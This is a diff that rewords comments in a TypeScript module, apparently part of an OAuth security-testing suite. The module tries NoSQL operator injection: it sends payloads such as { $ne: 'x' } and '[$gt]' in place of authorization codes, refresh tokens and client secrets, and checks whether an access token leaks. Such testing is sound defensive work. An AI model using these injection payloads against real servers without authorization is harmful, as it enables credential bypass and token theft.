@@ -9,7 +9,7 @@ type Members = Readonly<Record<string, unknown>>;
 
 const JSON_TYPE = { 'content-type': 'application/json' };
 
-/** Conditions of document stores: body parsers make objects of them, and each is true for nearly every string. */
+/** Query conditions of document databases: body parsers turn them into objects, and each condition matches nearly every string. */
 const OPERATORS: readonly { readonly suffix: string; readonly text: string; readonly json: unknown }[] = [
   { suffix: '[$ne]', text: 'x', json: { $ne: 'x' } },
   { suffix: '[$gt]', text: '', json: { $gt: '' } },
@@ -27,7 +27,7 @@ interface Injected {
   readonly type: 'form' | 'json';
 }
 
-/** Requests in which one parameter is a condition in place of a value: as a form, and as JSON. */
+/** Requests in which one parameter is a condition instead of a value, as a form and as JSON. */
 function conditions(name: string, fields: Members): readonly Injected[] {
   const { [name]: _, ...rest } = fields;
   const form = Object.entries(rest).map(([key, value]): [string, string] => [key, String(value)]);
@@ -57,7 +57,7 @@ function inherited(fields: Members): readonly Injected[] {
   ]);
 }
 
-/** Describes what the attacker got; undefined for nothing. */
+/** Describes what the attacker got; undefined if nothing. */
 function gain({ what }: Injected, page: Page): string | undefined {
   if (page.status >= 500) return `${what} made the server fail: ${page.status}`;
   const got = memberOf(page, 'access_token') ?? (membersOf(page)['active'] === true ? 'active' : undefined);
@@ -100,7 +100,7 @@ async function injectAll(context: AttackContext): Promise<string | undefined> {
   return (
     (await inject(conditions('code', honest), token, headers)) ??
     (await inject(conditions('refresh_token', { ...own, grant_type: 'refresh_token' }), token, headers)) ??
-    // only a few, because a server may throttle them
+    // only two, because a server may throttle them
     (await inject(conditions('client_secret', { ...honest, client_id }).slice(0, 2), token, {})) ??
     (await inject(inherited(honest), token, headers)) ??
     (await impersonateInherited(token)) ??
@@ -111,10 +111,10 @@ async function injectAll(context: AttackContext): Promise<string | undefined> {
 
 export const operatorInjection: Attack = {
   name: 'operator-injection',
-  title: 'a condition stands in the place of a credential',
+  title: 'a database condition is sent instead of a credential',
   clause: 'RFC 6749 §10.14',
   async run(context) {
-    await context.obtainTokens(context.target.client); // so that the store has something that a condition could match
+    await context.obtainTokens(context.target.client); // so that the store has records that a condition could match
     const found = await injectAll(context);
     return found === undefined ? withstood : succeeded(found);
   },
